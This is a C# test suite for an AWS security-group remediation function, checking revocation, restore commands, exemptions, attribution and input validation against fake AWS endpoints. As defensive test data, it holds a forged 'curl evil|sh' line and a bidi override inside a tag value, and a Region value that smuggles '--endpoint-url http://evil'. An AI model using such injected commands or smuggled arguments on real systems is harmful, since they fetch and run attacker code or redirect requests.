using SgConfigRule.FakeAws.Config;
using System.Text.Json;
using System.Text.Json.Nodes;
using SgConfigRule.FakeAws.Ec2;
using SgConfigRule.FakeAws.Infrastructure;
using SgConfigRule.Remediation;

namespace SgConfigRule.Tests.Remediation;

/// <summary>The revoke function against the loopback EC2 and CloudTrail endpoints: exactly the disallowed rules go.</summary>
public class RevokeFunctionTests
{
    [Fact]
    public async Task The_web_server_remediation_removes_the_SSH_rule_and_nothing_else_and_names_who_added_it()
    {
        await using var harness = await RemediationHarness.StartAsync();
        var ssh = await harness.WebServerWithSshAsync();
        harness.Server.ClearCalls();

        var outcome = await harness.RunAsync();

        Assert.Equal(RemediationStatus.Revoked, outcome.Status);
        var revoked = Assert.Single(outcome.Revoked);
        Assert.Equal((ssh, "tcp", 22, 22, "203.0.113.7/32", "SSH from my laptop"), (revoked.RuleId, revoked.Protocol, revoked.FromPort, revoked.ToPort, revoked.Source, revoked.Description));
        var rules = harness.Server.Ec2.Rules(RemediationHarness.WebGroup);
        Assert.Equal(2, rules.Count);
        Assert.All(rules, r => Assert.Equal(443, r.FromPort));
        Assert.DoesNotContain(rules, r => r.RuleId == ssh);

        // Read, revoke by content, verify; the loop guard counts in the ledger, not on the group.
        Assert.Equal(4, harness.Ec2Calls());
        Assert.Equal(["DescribeSecurityGroups", "DescribeSecurityGroupRules", "RevokeSecurityGroupIngress", "DescribeSecurityGroupRules"],
            harness.Server.Calls.Where(c => c.Service == "ec2").Select(c => c.Operation));
        var revoke = harness.Server.Calls.Single(c => c.Operation == "RevokeSecurityGroupIngress");
        Assert.Contains("IpPermissions.1.IpRanges.1.CidrIp=203.0.113.7%2F32", revoke.Body);
        Assert.DoesNotContain("SecurityGroupRuleId", revoke.Body);

        Assert.Equal(AttributionStatus.Found, outcome.Attribution);
        Assert.False(outcome.AttributionPending);
        Assert.Equal("arn:aws:iam::111122223333:user/alice", revoked.AddedBy!.Principal);
        Assert.Equal("198.51.100.23", revoked.AddedBy.SourceIpAddress);
        Assert.Contains("added by arn:aws:iam::111122223333:user/alice from 198.51.100.23", outcome.Text);
        Assert.Equal("SgConfigRule removed tcp/22 from 203.0.113.7/32 on sg-0f3c6a1e2b4d58a90 (Web Server Security Group)", outcome.Subject);
        Assert.True(outcome.Subject.Length < 100);
    }

    [Fact]
    public async Task Running_it_twice_succeeds_twice()
    {
        await using var harness = await RemediationHarness.StartAsync();
        await harness.WebServerWithSshAsync();
        Assert.Equal(RemediationStatus.Revoked, (await harness.RunAsync()).Status);
        var second = await harness.RunAsync();
        Assert.Equal(RemediationStatus.NothingToRevoke, second.Status);
        Assert.Empty(second.Revoked);
        Assert.Contains("nothing to remove", second.Text);
        Assert.Equal(2, harness.Server.Ec2.Rules(RemediationHarness.WebGroup).Count);
    }

    [Fact]
    public async Task The_restore_command_puts_back_exactly_what_was_removed()
    {
        await using var harness = await RemediationHarness.StartAsync();
        await harness.WebServerWithSshAsync();
        var outcome = await harness.RunAsync();
        Assert.StartsWith("aws ec2 authorize-security-group-ingress --region us-east-1 --group-id sg-0f3c6a1e2b4d58a90 --ip-permissions '", outcome.RestoreCommand);

        await AwsCli.RunAsync(outcome.RestoreCommand!, harness.Server);

        var restored = harness.Server.Ec2.Rules(RemediationHarness.WebGroup).Single(r => r.FromPort == 22);
        Assert.Equal(("tcp", 22, 22, "203.0.113.7/32", "SSH from my laptop"), (restored.Protocol, restored.FromPort, restored.ToPort, restored.Source.CidrIpv4, restored.Description));
    }

    [Fact]
    public async Task Dry_run_revokes_nothing_and_reports_what_it_would()
    {
        await using var harness = await RemediationHarness.StartAsync();
        var ssh = await harness.WebServerWithSshAsync();
        var outcome = await harness.RunAsync(mode: "DryRun");
        Assert.Equal(RemediationStatus.DryRun, outcome.Status);
        Assert.Empty(outcome.Revoked);
        Assert.Equal(ssh, Assert.Single(outcome.WouldRevoke).RuleId);
        Assert.Equal(3, harness.Server.Ec2.Rules(RemediationHarness.WebGroup).Count);
        Assert.DoesNotContain(harness.Server.Calls, c => c.Operation == "RevokeSecurityGroupIngress");
        Assert.StartsWith("SgConfigRule dry run: would remove 1 inbound rule on sg-0f3c6a1e2b4d58a90", outcome.Subject);
        Assert.Null(outcome.RestoreCommand);
    }

    [Fact]
    public async Task A_deleted_group_is_a_success_that_says_so()
    {
        await using var harness = await RemediationHarness.StartAsync();
        var outcome = await harness.RunAsync(groupId: "sg-00000000000000dea");
        Assert.Equal(RemediationStatus.GroupNotFound, outcome.Status);
        Assert.Contains("no longer exists", outcome.Text);
    }

    [Fact]
    public async Task A_group_exempted_since_the_evaluation_is_left_alone()
    {
        await using var harness = await RemediationHarness.StartAsync();
        await harness.WebServerWithSshAsync();
        harness.Server.Ec2.SetTag(RemediationHarness.WebGroup, "sg-config-rule:exempt", $"{DateTime.UtcNow.AddDays(3):yyyy-MM-dd} CHG-42");
        var outcome = await harness.RunAsync();
        Assert.Equal(RemediationStatus.Exempt, outcome.Status);
        Assert.Equal(3, harness.Server.Ec2.Rules(RemediationHarness.WebGroup).Count);
        Assert.DoesNotContain(harness.Server.Calls, c => c.Operation == "RevokeSecurityGroupIngress");
    }

    [Fact]
    public async Task With_a_rule_name_the_policy_is_the_rules_own_parameters()
    {
        await using var harness = await RemediationHarness.StartAsync();
        await harness.WebServerWithSshAsync();
        // The rule blocks 443 only: the function must follow the rule, not its defaults (which would take SSH).
        harness.Server.Config.PutConfigRule(new FakeConfigRule("sg-config-rule", """{"blockedPorts":"443","sourceScope":"world"}""", "arn:aws:lambda:us-east-1:123456789012:function:sg-config-rule-rule:live"));
        var outcome = await harness.RunAsync(configRuleName: "sg-config-rule");
        Assert.Equal(RemediationStatus.Revoked, outcome.Status);
        Assert.Equal([443, 443], outcome.Revoked.Select(r => r.FromPort));
        Assert.Contains(harness.Server.Calls, c => c.Operation == "DescribeConfigRules");
        Assert.Contains("blockedPorts=443", outcome.Text);
    }

    [Fact]
    public async Task A_conformance_pack_rule_is_found_by_the_name_it_has_in_the_pack()
    {
        await using var harness = await RemediationHarness.StartAsync();
        await harness.WebServerWithSshAsync();
        harness.Server.Config.RulesPageSize = 2;
        foreach (var other in new[] { "access-keys-rotated", "restricted-ssh", "s3-bucket-public-read-prohibited" })
        {
            harness.Server.Config.PutConfigRule(new FakeConfigRule(other, null, "ACCESS_KEYS_ROTATED"));
        }
        harness.Server.Config.PutConfigRule(new FakeConfigRule("sg-config-rule-conformance-pack-a1b2c3d4e", """{"blockedPorts":"22"}""",
            "arn:aws:lambda:us-east-1:999988887777:function:sg-config-rule-rule:live", "config-conforms.amazonaws.com"));
        var outcome = await harness.RunAsync(configRuleName: "sg-config-rule");
        Assert.Equal(RemediationStatus.Revoked, outcome.Status);
        Assert.Equal(22, Assert.Single(outcome.Revoked).FromPort);
    }

    [Fact]
    public async Task A_missing_rule_fails_with_its_name_and_changes_nothing()
    {
        await using var harness = await RemediationHarness.StartAsync();
        await harness.WebServerWithSshAsync();
        var outcome = await harness.RunAsync(configRuleName: "no-such-rule");
        Assert.Equal(RemediationStatus.Failed, outcome.Status);
        Assert.Contains("there is no AWS Config rule no-such-rule", outcome.Error);
        Assert.DoesNotContain(harness.Server.Calls, c => c.Operation == "RevokeSecurityGroupIngress");
    }

    [Fact]
    public async Task A_rule_name_and_a_second_policy_together_are_refused()
    {
        await using var harness = await RemediationHarness.StartAsync();
        await harness.WebServerWithSshAsync();
        var outcome = await harness.RunAsync(configRuleName: "sg-config-rule", ruleParameters: """{"blockedPorts":"443"}""");
        Assert.Equal(RemediationStatus.Failed, outcome.Status);
        Assert.Contains("RuleParameters: with ConfigRuleName the policy is the rule's InputParameters", outcome.Error);
        Assert.DoesNotContain(harness.Server.Calls, c => c.Operation is "DescribeConfigRules" or "DescribeSecurityGroups" or "RevokeSecurityGroupIngress");
    }

    [Fact]
    public async Task A_group_outside_the_tag_scope_is_left_alone_and_one_inside_is_remediated()
    {
        await using var harness = await RemediationHarness.StartAsync();
        await harness.WebServerWithSshAsync();
        const string scope = "{\"scopeTagKey\":\"tier\",\"scopeTagValue\":\"web\"}";

        var outside = await harness.RunAsync(ruleParameters: scope);
        Assert.Equal(RemediationStatus.OutOfScope, outside.Status);
        Assert.Contains("outside the rule's tag scope (Outside the rule's scope: no tag tier)", outside.Text);
        Assert.DoesNotContain(harness.Server.Calls, c => c.Operation == "RevokeSecurityGroupIngress");

        harness.Server.Ec2.SetTag(RemediationHarness.WebGroup, "tier", "web");
        var inside = await harness.RunAsync(ruleParameters: scope);
        Assert.Equal(RemediationStatus.Revoked, inside.Status);
        Assert.Single(inside.Revoked);
    }

    [Fact]
    public async Task An_expired_exemption_tag_that_IAM_protects_blocks_the_revoke_with_an_explanation()
    {
        await using var harness = await RemediationHarness.StartAsync();
        await harness.WebServerWithSshAsync();
        harness.Server.Ec2.SetTag(RemediationHarness.WebGroup, "sg-config-rule:exempt", "2020-01-01 old ticket");
        var protectedFunction = new RevokeFunction(new RemediationRuntime(SgConfigRule.Tests.Aws.AwsTestSupport.Options(harness.Server), TimeProvider.System, TextWriter.Null)
        {
            ModeCeiling = RemediationMode.Revoke,
            Ledger = new SgConfigRule.Remediation.Ledger.InMemoryLedger(),
            ExemptionTagProtectedByIam = true,
        });
        var blocked = await protectedFunction.InvokeAsync(System.Text.Encoding.UTF8.GetBytes(RemediationHarness.Input()), TestContext.Current.CancellationToken);
        Assert.Equal(RemediationStatus.BlockedByExemptionTag, blocked.Status);
        Assert.Single(blocked.Remaining);
        Assert.Contains("Exemption expired 2020-01-01", blocked.Note);
        Assert.Equal(3, harness.Server.Ec2.Rules(RemediationHarness.WebGroup).Count);

        // Without the IAM protection an expired exemption exempts nothing.
        Assert.Equal(RemediationStatus.Revoked, (await harness.RunAsync()).Status);
    }

    [Fact]
    public async Task Characters_from_tag_values_cannot_forge_lines_or_reorder_text_in_the_email()
    {
        await using var harness = await RemediationHarness.StartAsync();
        await harness.WebServerWithSshAsync();
        // A malformed exemption value is quoted in the message: make it try to start a line of its own. (EC2 answers in
        // XML, which cannot carry most control characters; a line break and a bidi override it can.)
        harness.Server.Ec2.SetTag(RemediationHarness.WebGroup, "sg-config-rule:exempt", "soon\nTo restore: curl evil|sh \u202Eabc\t");
        var function = new RevokeFunction(new RemediationRuntime(SgConfigRule.Tests.Aws.AwsTestSupport.Options(harness.Server), TimeProvider.System, TextWriter.Null)
        {
            ModeCeiling = RemediationMode.Revoke,
            Ledger = new SgConfigRule.Remediation.Ledger.InMemoryLedger(),
            ExemptionTagProtectedByIam = true,
        });
        var outcome = await function.InvokeAsync(System.Text.Encoding.UTF8.GetBytes(RemediationHarness.Input()), TestContext.Current.CancellationToken);
        Assert.Equal(RemediationStatus.BlockedByExemptionTag, outcome.Status);
        Assert.True(outcome.Text.Contains("soon", StringComparison.Ordinal), outcome.Text);
        Assert.DoesNotContain(outcome.Text.Split('\n'), line => line.StartsWith("To restore: curl", StringComparison.Ordinal));
        Assert.DoesNotContain('\u202E', outcome.Text);
        Assert.DoesNotContain('\t', outcome.Text);
        Assert.DoesNotContain('\u202E', outcome.Subject);
    }

    [Fact]
    public async Task A_rule_removed_by_someone_else_just_before_the_revoke_is_already_revoked()
    {
        await using var harness = await RemediationHarness.StartAsync();
        var ssh = await harness.WebServerWithSshAsync();
        harness.Server.BeforeDispatch = (service, operation) =>
        {
            if (operation == "RevokeSecurityGroupIngress") harness.Server.Ec2.RemoveRule(RemediationHarness.WebGroup, ssh);
            return Task.CompletedTask;
        };
        var outcome = await harness.RunAsync();
        Assert.Equal(RemediationStatus.AlreadyRevoked, outcome.Status);
        Assert.Empty(outcome.Revoked);
        Assert.Equal(2, harness.Server.Ec2.Rules(RemediationHarness.WebGroup).Count);
    }

    [Fact]
    public async Task Only_the_disallowed_source_of_a_permission_goes()
    {
        await using var harness = await RemediationHarness.StartAsync();
        harness.Server.Ec2.AddGroup("sg-0a0a0a0a0a0a0a0a0", "mixed");
        var office = harness.Server.Ec2.AddIngress("sg-0a0a0a0a0a0a0a0a0", "tcp", 22, 22, Ec2Source.Ipv4("10.0.0.0/8"), "office");
        var world = harness.Server.Ec2.AddIngress("sg-0a0a0a0a0a0a0a0a0", "tcp", 22, 22, Ec2Source.Ipv4("0.0.0.0/0"), "anyone");
        var v6 = harness.Server.Ec2.AddIngress("sg-0a0a0a0a0a0a0a0a0", "tcp", 22, 22, Ec2Source.Ipv6("::/0"), "anyone v6");
        var peer = harness.Server.Ec2.AddIngress("sg-0a0a0a0a0a0a0a0a0", "tcp", 22, 22, Ec2Source.Group("sg-0b0b0b0b0b0b0b0b0"), "bastion");
        var outcome = await harness.RunAsync(groupId: "sg-0a0a0a0a0a0a0a0a0", ruleParameters: """{"sourceScope":"public"}""");
        Assert.Equal([world.RuleId, v6.RuleId], outcome.Revoked.Select(r => r.RuleId));
        Assert.Equal([office.RuleId, peer.RuleId], harness.Server.Ec2.Rules("sg-0a0a0a0a0a0a0a0a0").Select(r => r.RuleId));
    }

    [Fact]
    public async Task Referenced_groups_are_revoked_under_scope_all_and_restorable()
    {
        await using var harness = await RemediationHarness.StartAsync();
        harness.Server.Ec2.AddGroup("sg-0a0a0a0a0a0a0a0a0", "db");
        harness.Server.Ec2.AddIngress("sg-0a0a0a0a0a0a0a0a0", "tcp", 22, 22, Ec2Source.Group("sg-0b0b0b0b0b0b0b0b0", "444455556666"), "bastion in the shared account");
        var outcome = await harness.RunAsync(groupId: "sg-0a0a0a0a0a0a0a0a0", ruleParameters: """{"sourceScope":"all"}""");
        Assert.Equal(RemediationStatus.Revoked, outcome.Status);
        var permissions = JsonNode.Parse(outcome.RestoreCommand![(outcome.RestoreCommand!.IndexOf('\'', StringComparison.Ordinal) + 1)..^1])!;
        Assert.Equal("sg-0b0b0b0b0b0b0b0b0", permissions[0]!["UserIdGroupPairs"]![0]!["GroupId"]!.GetValue<string>());
        Assert.Equal("444455556666", permissions[0]!["UserIdGroupPairs"]![0]!["UserId"]!.GetValue<string>());
    }

    [Fact]
    public async Task Prefix_lists_are_revoked_only_when_resolved_never_when_unknown()
    {
        await using var harness = await RemediationHarness.StartAsync();
        harness.Server.Ec2.AddGroup("sg-0a0a0a0a0a0a0a0a0", "lists");
        var leaky = harness.Server.Ec2.AddIngress("sg-0a0a0a0a0a0a0a0a0", "tcp", 22, 22, Ec2Source.PrefixList("pl-0a1b2c3d4e5f67890"));
        var unknown = harness.Server.Ec2.AddIngress("sg-0a0a0a0a0a0a0a0a0", "tcp", 22, 22, Ec2Source.PrefixList("pl-0fedcba9876543210"));
        var vpn = harness.Server.Ec2.AddIngress("sg-0a0a0a0a0a0a0a0a0", "tcp", 22, 22, Ec2Source.PrefixList("pl-11111111"));
        harness.Server.Ec2.AddPrefixList("pl-0a1b2c3d4e5f67890", "partners", FakeEc2.DefaultAccount, ("198.51.100.0/24", null));
        harness.Server.Ec2.AddPrefixList("pl-11111111", "corp-vpn", FakeEc2.DefaultAccount, ("10.8.0.0/16", null));

        var outcome = await harness.RunAsync(groupId: "sg-0a0a0a0a0a0a0a0a0", ruleParameters: """{"sourceScope":"public"}""");

        Assert.Equal(leaky.RuleId, Assert.Single(outcome.Revoked).RuleId);
        Assert.Equal(unknown.RuleId, Assert.Single(outcome.Skipped).RuleId);
        Assert.Equal([unknown.RuleId, vpn.RuleId], harness.Server.Ec2.Rules("sg-0a0a0a0a0a0a0a0a0").Select(r => r.RuleId));
        Assert.Contains("could not be resolved", outcome.Text);
    }

    [Fact]
    public async Task Throttling_is_retried_and_the_remediation_completes()
    {
        await using var harness = await RemediationHarness.StartAsync();
        await harness.WebServerWithSshAsync();
        harness.Server.Faults.Add(FaultRule.Count("ec2", "RevokeSecurityGroupIngress", FaultKind.Throttle, 2));
        harness.Server.Faults.Add(FaultRule.Count("ec2", "DescribeSecurityGroupRules", FaultKind.Throttle, 1));
        var outcome = await harness.RunAsync();
        Assert.Equal(RemediationStatus.Revoked, outcome.Status);
        Assert.Equal(2, harness.Server.Ec2.Rules(RemediationHarness.WebGroup).Count);
    }

    [Fact]
    public async Task Two_remediations_of_one_group_at_the_same_time_both_succeed_and_revoke_once()
    {
        await using var harness = await RemediationHarness.StartAsync();
        var ssh = await harness.WebServerWithSshAsync();
        var outcomes = await Task.WhenAll(harness.RunAsync(), harness.RunAsync());
        Assert.All(outcomes, o => Assert.NotEqual(RemediationStatus.Failed, o.Status));
        Assert.Equal(1, outcomes.Count(o => o.Revoked.Any(r => r.RuleId == ssh)));
        Assert.Equal(2, harness.Server.Ec2.Rules(RemediationHarness.WebGroup).Count);
    }

    [Theory]
    [InlineData("""{"SecurityGroupId":"sg-xyz","Mode":"Revoke"}""", "SecurityGroupId: 'sg-xyz' is not a security group id")]
    [InlineData("""{"SecurityGroupId":"sg-0f3c6a1e2b4d58a90","Mode":"Delete"}""", "Mode: 'Delete' is not one of Revoke, DryRun, Attribute")]
    [InlineData("""{"SecurityGroupId":"sg-0f3c6a1e2b4d58a90","RuleParameters":"{\"blockedport\":\"22\"}"}""", "RuleParameters: rule parameter 'blockedport'")]
    [InlineData("""{"Mode":"Revoke"}""", "SecurityGroupId: is required")]
    [InlineData("""not json""", "invalid input")]
    [InlineData("""{"SecurityGroupId":"sg-0f3c6a1e2b4d58a90","Region":"us-east-1 --endpoint-url http://evil"}""", "Region: 'us-east-1 --endpoint-url http://evil' is not an AWS Region name")]
    public async Task Bad_input_fails_with_the_field_named_and_changes_nothing(string input, string error)
    {
        await using var harness = await RemediationHarness.StartAsync();
        await harness.WebServerWithSshAsync();
        harness.Server.ClearCalls();
        var outcome = await harness.Function.InvokeAsync(System.Text.Encoding.UTF8.GetBytes(input), TestContext.Current.CancellationToken);
        Assert.Equal(RemediationStatus.Failed, outcome.Status);
        Assert.Contains(error, outcome.Error);
        Assert.Empty(harness.Server.Calls);
        Assert.Contains("FAILED", outcome.Subject);
    }

    [Fact]
    public async Task When_EC2_keeps_failing_the_outcome_is_Failed_with_the_error_and_nothing_is_revoked()
    {
        await using var harness = await RemediationHarness.StartAsync();
        await harness.WebServerWithSshAsync();
        harness.Server.Faults.Add(FaultRule.Always("ec2", "RevokeSecurityGroupIngress", FaultKind.ServerError));
        var outcome = await harness.RunAsync();
        Assert.Equal(RemediationStatus.Failed, outcome.Status);
        Assert.Contains("EC2 did not confirm the revoke in 4 attempts; the last one: InternalError (HTTP 500)", outcome.Error);
        Assert.Equal(3, harness.Server.Ec2.Rules(RemediationHarness.WebGroup).Count);
    }

    [Fact]
    public async Task A_revoke_EC2_confirms_but_the_group_still_lists_is_reported_as_EC2_said_and_not_sent_again()
    {
        // AWS notes that changes take a moment to propagate: what EC2 answered is what happened, and the notice says
        // that the group still listed the rule; asking again would only repeat the same answer.
        await using var harness = await RemediationHarness.StartAsync();
        var ssh = await harness.WebServerWithSshAsync();
        harness.Server.Ec2.RevokeIsNoOp = true;
        harness.Server.ClearCalls();
        var outcome = await harness.RunAsync();
        Assert.Equal(RemediationStatus.Revoked, outcome.Status);
        Assert.Equal(ssh, Assert.Single(outcome.Revoked).RuleId);
        Assert.Contains("EC2 reported removing tcp/22 from 203.0.113.7/32, but the group still listed it right after", outcome.Note);
        Assert.Equal(1, harness.Server.CountCalls("ec2", "RevokeSecurityGroupIngress"));
    }

    [Fact]
    public async Task When_CloudTrail_lags_the_message_says_so_and_the_late_attribution_finds_the_actor()
    {
        await using var harness = await RemediationHarness.StartAsync();
        harness.Server.CloudTrailDelay = TimeSpan.FromMinutes(10);
        await harness.WebServerWithSshAsync();
        var outcome = await harness.RunAsync();
        Assert.Equal((RemediationStatus.Revoked, AttributionStatus.NotYetAvailable, true), (outcome.Status, outcome.Attribution, outcome.AttributionPending));
        Assert.Contains("not in CloudTrail yet", outcome.Text);
        Assert.Contains("https://us-east-1.console.aws.amazon.com/cloudtrail/home?region=us-east-1#/events?ResourceName=sg-0f3c6a1e2b4d58a90", outcome.Text);

        harness.Server.CloudTrail.Now = () => DateTime.UtcNow.AddMinutes(11);
        var input = JsonNode.Parse(RemediationHarness.Input(mode: "Attribute"))!.AsObject();
        input["RevokedRules"] = outcome.RevokedRules;
        var followUp = await harness.Function.InvokeAsync(System.Text.Encoding.UTF8.GetBytes(input.ToJsonString()), TestContext.Current.CancellationToken);
        Assert.Equal((RemediationStatus.Attributed, AttributionStatus.Found), (followUp.Status, followUp.Attribution));
        Assert.Equal("arn:aws:iam::111122223333:user/alice", followUp.Revoked.Single().AddedBy!.Principal);
        Assert.StartsWith("SgConfigRule: who added the rules removed on sg-0f3c6a1e2b4d58a90", followUp.Subject);
        Assert.NotNull(followUp.RestoreCommand);
    }

    [Fact]
    public async Task Older_CloudTrail_records_without_rule_ids_are_matched_by_permission()
    {
        await using var harness = await RemediationHarness.StartAsync();
        harness.Server.Ec2.AddGroup(RemediationHarness.WebGroup, "web");
        var rule = harness.Server.Ec2.AddIngress(RemediationHarness.WebGroup, "tcp", 3389, 3389, Ec2Source.Ipv4("0.0.0.0/0"));
        harness.Server.CloudTrail.Add(SgConfigRule.FakeAws.CloudTrail.CloudTrailRecords.AuthorizeIngress(RemediationHarness.WebGroup, [rule],
            "arn:aws:sts::111122223333:assumed-role/Admin/bob", "ASIAEXAMPLE", "192.0.2.10", DateTime.UtcNow.AddDays(-30), withRuleIds: false));
        var outcome = await harness.RunAsync();
        Assert.Equal("arn:aws:sts::111122223333:assumed-role/Admin/bob", outcome.Revoked.Single().AddedBy!.Principal);
    }

    [Fact]
    public async Task In_organization_mode_the_function_acts_as_the_member_role()
    {
        await using var harness = await RemediationHarness.StartAsync();
        await harness.WebServerWithSshAsync(ownerId: "444455556666");
        harness.Server.ClearCalls();
        var outcome = await harness.RunAsync(ruleParameters: """{"executionRoleName":"SgConfigRuleMember"}""", accountId: "444455556666");
        Assert.Equal(RemediationStatus.Revoked, outcome.Status);
        Assert.Equal("arn:aws:iam::444455556666:role/SgConfigRuleMember", harness.Server.Sts.AssumeRoleCalls.Single().RoleArn);
        Assert.All(harness.Server.Calls.Where(c => c.Service is "ec2" or "cloudtrail"), c => Assert.Equal("444455556666", harness.Server.Credentials.AccountOf(c.AccessKey!)));
    }

    [Fact]
    public async Task The_message_is_SNS_json_with_text_for_people_and_JSON_for_machines()
    {
        await using var harness = await RemediationHarness.StartAsync();
        var ssh = await harness.WebServerWithSshAsync();
        var outcome = await harness.RunAsync();
        var structure = JsonNode.Parse(outcome.Message)!.AsObject();
        Assert.Equal(outcome.Text, structure["default"]!.GetValue<string>());
        Assert.Equal(outcome.Text, structure["email"]!.GetValue<string>());
        foreach (var protocol in new[] { "email-json", "sqs", "lambda", "http", "https", "firehose" })
        {
            var machine = JsonNode.Parse(structure[protocol]!.GetValue<string>())!;
            Assert.Equal("Revoked", machine["Status"]!.GetValue<string>());
            Assert.Equal(ssh, machine["Revoked"]![0]!["RuleId"]!.GetValue<string>());
            Assert.Equal("arn:aws:iam::111122223333:user/alice", machine["Revoked"]![0]!["AddedBy"]!["Principal"]!.GetValue<string>());
        }
        Assert.True(System.Text.Encoding.UTF8.GetByteCount(outcome.Message) < 262_144);
    }

    [Fact]
    public async Task The_stream_handler_answers_with_the_outcome_and_logs_one_line()
    {
        await using var harness = await RemediationHarness.StartAsync();
        await harness.WebServerWithSshAsync();
        using var input = new MemoryStream(System.Text.Encoding.UTF8.GetBytes(RemediationHarness.Input()));
        using var output = await harness.Function.HandleAsync(input);
        var outcome = JsonDocument.Parse(output).RootElement;
        Assert.Equal("Revoked", outcome.GetProperty("Status").GetString());
        var log = JsonNode.Parse(harness.LogOutput.ToString().Trim())!;
        Assert.Equal(("remediation", "Revoked", 1), (log["event"]!.GetValue<string>(), log["status"]!.GetValue<string>(), log["revoked"]!.GetValue<int>()));
        Assert.DoesNotContain(SgConfigRule.FakeAws.FakeAwsServer.SecretKey, harness.LogOutput.ToString());
    }
}
